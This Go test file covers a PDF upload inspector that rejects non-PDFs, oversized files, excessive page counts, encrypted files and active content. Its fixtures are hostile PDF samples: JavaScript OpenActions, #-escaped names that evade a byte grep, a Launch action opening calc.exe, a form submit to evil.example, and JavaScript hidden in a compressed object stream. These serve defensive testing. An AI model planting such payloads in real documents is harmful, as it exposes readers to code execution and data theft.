package pdf_test

import (
	"bytes"
	"compress/zlib"
	"errors"
	"fmt"
	"github.com/brokerdesk/brokerdesk/test/pdftest"
	"math"
	"testing"

	"github.com/brokerdesk/brokerdesk/app/platform/pdf"
	"github.com/pdfcpu/pdfcpu/pkg/api"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/model"
)

func refusal(t *testing.T, content []byte, l pdf.Limits) string {
	t.Helper()
	_, err := pdf.Inspect(content, l)
	var re *pdf.RefusedError
	if !errors.As(err, &re) {
		t.Fatalf("Inspect err = %v, want *RefusedError", err)
	}
	if re.Reason == "" {
		t.Error("refusal without a reason")
	}
	return re.Code
}

// Catches: a rendered document refused (the signing flow could never start), and page sizes
// in the wrong unit or order.
func TestInspect_Accepts(t *testing.T) {
	r := mustRender(t, "Seite eins\n[[pagebreak]]\nSeite zwei", nil)
	info, err := pdf.Inspect(r.PDF, pdf.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if info.Pages != 2 || len(info.Sizes) != 2 {
		t.Fatalf("info = %+v", info)
	}
	for _, s := range info.Sizes {
		if math.Abs(s[0]-595.28) > 0.5 || math.Abs(s[1]-841.89) > 0.5 {
			t.Errorf("size %v, want A4 in points", s)
		}
	}
	hand, err := pdf.Inspect(pagesPDF(3, ""), pdf.Limits{})
	if err != nil || hand.Pages != 3 {
		t.Errorf("a plain hand-made PDF: %+v, %v", hand, err)
	}
}

// Catches: garbage or a truncated file passed on to the sealer (500 later instead of 422 now).
func TestInspect_NotPDF(t *testing.T) {
	for name, c := range map[string][]byte{
		"garbage":   bytes.Repeat([]byte{0xde, 0xad, 0xbe, 0xef}, 1000),
		"empty":     nil,
		"html":      []byte("<html><body>%PDF-1.7</body></html>"),
		"truncated": mustRender(t, "Text", nil).PDF[:400],
		"header":    []byte("%PDF-1.7\n"),
	} {
		if code := refusal(t, c, pdf.Limits{}); code != pdf.RefusedNotPDF {
			t.Errorf("%s: code %s, want not_pdf", name, code)
		}
	}
}

// Catches: the size checked after parsing (a 50 MB upload parsed into memory first) or not at
// all. The content is a valid PDF padded with a comment, so only the size can refuse it.
func TestInspect_TooLarge(t *testing.T) {
	content := append(pagesPDF(1, ""), bytes.Repeat([]byte("%padding padding padding\n"), 50<<20/25)...)
	if code := refusal(t, content, pdf.Limits{}); code != pdf.RefusedTooLarge {
		t.Errorf("code %s, want too_large", code)
	}
	if code := refusal(t, pagesPDF(1, ""), pdf.Limits{MaxBytes: 100}); code != pdf.RefusedTooLarge {
		t.Errorf("MaxBytes not applied: %s", code)
	}
}

// Catches: a 10,000-page document accepted (sealing and stamping it would tie up the server)
// and a MaxPages limit that is ignored.
func TestInspect_TooManyPages(t *testing.T) {
	if code := refusal(t, pagesPDF(10_000, ""), pdf.Limits{}); code != pdf.RefusedTooManyPages {
		t.Errorf("code %s, want too_many_pages", code)
	}
	if code := refusal(t, pagesPDF(3, ""), pdf.Limits{MaxPages: 2}); code != pdf.RefusedTooManyPages {
		t.Errorf("MaxPages not applied: %s", code)
	}
}

// Catches: an encrypted PDF accepted (the signers would see one document and the seal cover
// bytes nobody can read), whether it needs a password to open or only an owner password.
func TestInspect_Encrypted(t *testing.T) {
	plain := mustRender(t, "Geheim", nil).PDF
	for name, pw := range map[string][2]string{"user password": {"user", "owner"}, "owner password only": {"", "owner"}} {
		conf := model.NewAESConfiguration(pw[0], pw[1], 256)
		var out bytes.Buffer
		if err := api.Encrypt(bytes.NewReader(plain), &out, conf); err != nil {
			t.Fatal(err)
		}
		if code := refusal(t, out.Bytes(), pdf.Limits{}); code != pdf.RefusedEncrypted {
			t.Errorf("%s: code %s, want encrypted", name, code)
		}
	}
}

// Catches: JavaScript or other active content let through, where it hides from a byte grep
// (#-escaped names) or sits deep (an annotation's additional actions, a name tree).
func TestInspect_ActiveContent(t *testing.T) {
	cases := map[string][]byte{
		"OpenAction JavaScript": pagesPDF(1, "/OpenAction 4 0 R", "<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"),
		"escaped names":         pagesPDF(1, "/OpenAction << /S /Java#53cript /J#53 (app.alert\\(1\\)) >>"),
		"names tree":            pagesPDF(1, "/Names << /JavaScript 4 0 R >>", "<< /Names [(x) << /S /JavaScript /JS (1) >>] >>"),
		"launch":                pagesPDF(1, "/OpenAction << /S /Launch /F (calc.exe) >>"),
		"page AA": pdftest.Hand("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
			"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << /S /Named /N /NextPage >> >> >>"),
		"submit form": pagesPDF(1, "/OpenAction << /S /SubmitForm /F (https://evil.example) >>"),
	}
	for name, c := range cases {
		if code := refusal(t, c, pdf.Limits{}); code != pdf.RefusedJavaScript {
			t.Errorf("%s: code %s, want javascript", name, code)
		}
	}
	// The action compressed inside an object stream (a PDF 1.5 cross-reference stream points
	// into it): a byte grep sees only deflated data.
	if code := refusal(t, objStmPDF(t, "<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"), pdf.Limits{}); code != pdf.RefusedJavaScript {
		t.Errorf("object stream: code %s, want javascript", code)
	}
	if _, err := pdf.Inspect(objStmPDF(t, "<< /Type /Action /S /URI /URI (https://example.org) >>"), pdf.Limits{}); err != nil {
		t.Errorf("a harmless object stream refused: %v", err)
	}
}

// objStmPDF is a one-page PDF whose OpenAction (object 5) is compressed in an object stream
// (object 4), with a cross-reference stream (object 6).
func objStmPDF(t *testing.T, action string) []byte {
	t.Helper()
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	head := "5 0 "
	zw.Write([]byte(head + action))
	zw.Close()
	if bytes.Contains(z.Bytes(), []byte("JavaScript")) {
		t.Fatal("the action is not compressed")
	}
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	offs := map[int]int{}
	obj := func(n int, body string, stream []byte) {
		offs[n] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\n", n, body)
		if stream != nil {
			b.WriteString("stream\n")
			b.Write(stream)
			b.WriteString("\nendstream\n")
		}
		b.WriteString("endobj\n")
	}
	obj(1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", nil)
	obj(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", nil)
	obj(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>", nil)
	obj(4, fmt.Sprintf("<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>", len(head), z.Len()), z.Bytes())
	offs[6] = b.Len()
	var xr bytes.Buffer
	entry := func(typ byte, f2 int, f3 int) {
		xr.WriteByte(typ)
		xr.Write([]byte{byte(f2 >> 24), byte(f2 >> 16), byte(f2 >> 8), byte(f2)})
		xr.Write([]byte{byte(f3 >> 8), byte(f3)})
	}
	entry(0, 0, 65535)
	for n := 1; n <= 4; n++ {
		entry(1, offs[n], 0)
	}
	entry(2, 4, 0)
	entry(1, offs[6], 0)
	fmt.Fprintf(&b, "6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n", xr.Len())
	b.Write(xr.Bytes())
	fmt.Fprintf(&b, "\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n", offs[6])
	return b.Bytes()
}
